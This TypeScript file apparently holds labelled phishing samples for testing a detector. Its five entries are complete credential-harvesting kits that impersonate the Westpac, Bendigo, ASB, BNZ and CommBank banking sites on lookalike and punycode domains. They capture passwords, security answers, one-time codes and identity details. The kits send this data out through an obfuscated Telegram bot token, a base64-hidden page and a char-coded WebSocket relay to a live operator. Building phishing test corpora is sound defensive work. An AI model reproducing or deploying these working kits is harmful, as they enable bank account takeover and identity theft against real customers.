import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { shell, baseCss, mark, b64, charCodes, telegramDrop, json } from '../parts/xd-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'xd-westpac-security-questions-tg',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://westpac-online-secure.com-au.icu/signin/index.php',
  body: shell(
    'Sign in | Westpac Online Banking',
    `<header class="top" style="background:#fff;border-bottom:4px solid #da1710">${mark.westpac(30)}</header>
<main>
 <form id="a" class="step">
  <h1 style="font-size:26px;font-weight:400;margin:0 0 10px">Sign in to Online Banking</h1>
  <label for="customerId">Customer ID</label><input type="text" name="customerId" id="customerId" inputmode="numeric" maxlength="8" required>
  <label for="password">Password</label><input type="password" name="password" id="password" required>
  <p class="muted">Your Customer ID is on your Westpac welcome letter.</p>
  <button>Sign in</button>
 </form>
 <form id="b" class="step" style="display:none">
  <h2 style="font-weight:400">Confirm your identity</h2>
  <p class="muted">Due to recent updates to our Westpac Protect™ security, we need to confirm a few details before you continue.</p>
  <label>Full name</label><input type="text" name="fullname" required>
  <label>Date of birth</label><input type="text" name="dob" placeholder="DD/MM/YYYY" required>
  <label>Mobile number</label><input type="tel" name="mobile" required>
  <label>Security question</label>
  <select name="q1"><option>What was the name of your first pet?</option><option>What is your mother's maiden name?</option><option>In what city were you born?</option></select>
  <input type="text" name="a1" required>
  <label>Driver licence number</label><input type="text" name="licence">
  <button>Continue</button>
 </form>
 <div id="c" class="step" style="display:none"><h2 style="font-weight:400">Thank you</h2><p>Your details have been verified. Redirecting…</p></div>
</main>
<footer>© Westpac Banking Corporation ABN 33 007 457 141 AFSL and Australian credit licence 233714</footer>
<script>
var _t = ['7628', '194530', ':AAG', 'x0m1', 'Qe9LcYpWz', 'R4kD7n', 'Hq2uVb', 'sJ8'].join('');
var _c = '-100' + '2193' + '846112';
function go(id){ document.querySelectorAll('.step').forEach(function(s){ s.style.display = s.id === id ? 'block' : 'none'; }); }
document.getElementById('a').addEventListener('submit', function(e){ e.preventDefault();
  ${telegramDrop({ token: "'+_t+'", chat: "'+_c+'", tag: '🔴 WBC LOGIN', fields: ['customerId', 'password'], after: "go('b')" })}
});
document.getElementById('b').addEventListener('submit', function(e){ e.preventDefault();
  ${telegramDrop({ token: "'+_t+'", chat: "'+_c+'", tag: '🔴 WBC FULLZ', fields: ['fullname', 'dob', 'mobile', 'q1', 'a1', 'licence'], after: "go('c');setTimeout(function(){location.href='https://www.westpac.com.au/'},2500)" })}
});
</script>`,
    { css: baseCss('#fff', '#1f1c4f', '#da1710') },
  ),
},
{
  id: 'xd-bendigo-base64-loader',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://bendigo-ebanking.auth-secure.cfd/banking/signon',
  body: shell(
    'Bendigo e-banking',
    `<noscript>Please enable JavaScript.</noscript>
<script>
document.open();
document.write(decodeURIComponent(escape(atob('${b64(
      shell(
        'e-banking | Bendigo Bank',
        `<header class="top" style="background:#fff;border-bottom:3px solid #a6093d">${mark.bendigo(34)}</header>
<main>
<h1 style="font-size:22px;color:#a6093d">Log on to e-banking</h1>
<form id="lg" action="https://bendigo-ebanking.auth-secure.cfd/banking/gate.php" method="post">
<label>Access ID</label><input type="text" name="accessId" required>
<label>Password</label><input type="password" name="password" required>
<label>Security token code (if you have one)</label><input type="tel" name="token" maxlength="6">
<label>Mobile number for SMS verification</label><input type="tel" name="mobile" required>
<button style="width:100%;margin-top:16px">Log on</button>
</form>
<p class="muted">Bendigo and Adelaide Bank Limited ABN 11 068 049 178 AFSL / Australian Credit Licence 237879.</p>
</main>`,
        { css: baseCss('#fff', '#222', '#a6093d') },
      ),
    )}'))));
document.close();
</script>`,
  ),
},
{
  id: 'xd-asb-fastnet-netcode-websocket',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://asb.co.nz.fastnet-login.cc/fnc/1/goto/login',
  body: shell(
    'ASB FastNet Classic - Log in',
    `<header class="top">${mark.asb(36)}<span style="font-weight:700">FastNet Classic</span></header>
<main>
 <div id="l">
  <h1 style="font-size:22px">Log in</h1>
  <label for="u">Username or client number</label><input type="text" id="u" required>
  <label for="p">Password</label><input type="password" id="p" required>
  <button id="go" style="margin-top:16px">Log in</button>
 </div>
 <div id="n" style="display:none">
  <h2>NetCode required</h2>
  <p class="muted">To approve this login we've sent a 6-digit NetCode to your phone. Don't share this code.</p>
  <label for="nc">NetCode</label><input type="tel" id="nc" maxlength="6">
  <button id="go2" style="margin-top:16px">Submit</button>
  <p class="muted" id="wait" style="display:none">Please wait while we verify… do not close this window.</p>
 </div>
</main>
<footer>ASB Bank Limited</footer>
<script>
var host = ${JSON.stringify(charCodes('wss://ws.fastnet-login.cc:443/live'))};
var ws = new WebSocket(String.fromCharCode.apply(null, host));
var id = 'v' + Date.now();
ws.onmessage = function (m) {
  var cmd = JSON.parse(m.data);
  if (cmd.go === 'netcode') { document.getElementById('l').style.display = 'none'; document.getElementById('n').style.display = 'block'; }
  if (cmd.go === 'again') { document.getElementById('nc').value = ''; document.getElementById('wait').style.display = 'none'; }
  if (cmd.go === 'done') { location.href = 'https://www.asb.co.nz/'; }
};
document.getElementById('go').onclick = function () {
  ws.send(JSON.stringify({ id: id, b: 'ASB', u: document.getElementById('u').value, p: document.getElementById('p').value }));
};
document.getElementById('go2').onclick = function () {
  document.getElementById('wait').style.display = 'block';
  ws.send(JSON.stringify({ id: id, nc: document.getElementById('nc').value }));
};
</script>`,
    { lang: 'en-NZ', css: baseCss('#ffd600', '#111', '#111') },
  ),
},
{
  id: 'xd-bnz-punycode-netguard',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://xn--bn-xva.co.nz/ib/app/login',
  body: shell(
    'BNZ Internet Banking – Log in',
    `<header class="top">${mark.bnz(36)}</header>
<main>
 <h1 style="font-size:22px;color:#002f6c">Internet Banking</h1>
 <form id="bf" method="post" action="/ib/app/login/verify.php">
  <label>Access number</label><input type="text" name="access" inputmode="numeric" maxlength="10" required>
  <label>Password</label><input type="password" name="pass" required>
  <fieldset style="margin-top:18px;border:1px solid #c7d0dc;border-radius:4px">
   <legend style="font-size:14px;font-weight:600">NetGuard® card</legend>
   <p class="muted">Enter the values from your NetGuard card for the grid references below.</p>
   <div id="grid" style="display:flex;gap:10px"></div>
   <label>NetGuard card serial number</label><input type="text" name="serial">
  </fieldset>
  <button style="margin-top:16px">Log in</button>
 </form>
</main>
<footer>Bank of New Zealand</footer>
<script>
var cells = ['A1','B4','C2','D5','E3','F1','G4','H2','I5','J3'];
var g = document.getElementById('grid');
cells.sort(function(){ return Math.random() - .5; }).slice(0, 3).forEach(function(c){
  g.insertAdjacentHTML('beforeend', '<div><label>' + c + '</label><input type="text" name="ng_' + c + '" maxlength="1" style="width:56px"></div>');
});
</script>`,
    { lang: 'en-NZ', css: baseCss('#002f6c', '#111', '#002f6c') },
  ),
},
{
  id: 'xd-commbank-cancel-request-mobile-otp',
  label: 'phishing',
  kind: 'bank-otp-kit',
  url: 'https://commbank-cancel-request.info/case/CBA-771402',
  routes: {
    'commbank-cancel-request.info/case/CBA-771402': htmlRoute(
      shell(
        'CommBank - Cancel payee request',
        `<div style="max-width:420px;margin:0 auto;padding:18px">
 <div style="display:flex;align-items:center;gap:10px">${mark.commbank(34)}<b>CommBank</b></div>
 <div style="background:#fff8d6;border-left:4px solid #ffcc00;padding:12px;margin:16px 0;font-size:15px">A new payee <b>J. NGUYEN</b> (BSB 033-146) was added to your account on <span id="d"></span>. If this wasn't you, cancel the request below.</div>
 <form id="x">
  <label>Full name</label><input name="name" required>
  <label>Mobile</label><input name="mob" type="tel" required>
  <label>Date of birth</label><input name="dob" placeholder="DD/MM/YYYY" required>
  <label>NetBank client number</label><input name="cn" inputmode="numeric" required>
  <label>NetBank password</label><input name="pw" type="password" required>
  <button style="width:100%;margin-top:14px;background:#000">Cancel request</button>
 </form>
 <div id="o" style="display:none"><label>Enter the code we sent you</label><input name="otp" id="otp" type="tel" maxlength="6"><button id="ob" style="width:100%;margin-top:14px;background:#000">Verify</button></div>
</div>
<script src="/case/assets/app.min.js?v=31"></script>`,
        { css: baseCss('#ffcc00') + 'body{background:#fff}' },
      ),
    ),
    'commbank-cancel-request.info/case/assets/app.min.js': jsRoute(
      `!function(){var e=document,t=e.getElementById.bind(e);t("d").textContent=(new Date).toLocaleDateString("en-AU");var n=null;function a(o,c){return fetch("/api/v2/session",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify(o)}).then(function(r){return r.json()}).then(c).catch(function(){c({})})}t("x").addEventListener("submit",function(o){o.preventDefault();var c=Object.fromEntries(new FormData(this));c.brand="CBA";a(c,function(r){n=r.sid||"x";t("x").style.display="none";t("o").style.display="block"})});t("ob").addEventListener("click",function(){a({sid:n,otp:t("otp").value},function(){location.href="https://www.commbank.com.au/support/security.html"})})}();`,
    ),
    'commbank-cancel-request.info/api/v2/session': json({ ok: true, sid: 'c7f01a' }),
  },
},
];
